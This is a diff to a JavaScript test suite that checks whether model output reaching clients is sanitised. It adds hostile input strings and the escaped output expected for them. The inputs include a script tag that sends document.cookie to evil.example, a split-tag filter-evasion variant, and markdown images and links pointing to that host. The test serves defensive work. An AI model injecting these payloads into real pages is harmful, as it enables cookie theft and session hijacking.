@@ -109,8 +109,12 @@ describe('protection: privacy, output, injection, headers, origins and logs', ()
 
   describe('model output reaching clients', () => {
     const hostile =
-      'Hola <script>fetch("https://evil.example/?c="+document.cookie)</script>mirá ![x](https://evil.example/p.png) y [esto](https://evil.example) <b>fin</b>';
-    const clean = 'Hola mirá x y esto fin';
+      'Hola <script>fetch("https://evil.example/?c="+document.cookie)</script>mirá ![x](https://evil.example/p.png) y [esto](https://evil.example) <b>fin</b>' +
+      ' <scr<b>ipt>alert(1)</scr<b>ipt> ![y](\nhttps://evil.example/q.png\n"t") ok';
+    // Markup escaped (never deleted, so fragments cannot rebuild it), images and links to text.
+    const clean =
+      'Hola &lt;script>fetch("https://evil.example/?c="+document.cookie)&lt;/script>mirá x y esto &lt;b>fin&lt;/b>' +
+      ' &lt;scr&lt;b>ipt>alert(1)&lt;/scr&lt;b>ipt> y ok';
 
     it('neutralises HTML and outside images and links over REST', async () => {
       llm.enqueue({ text: hostile });
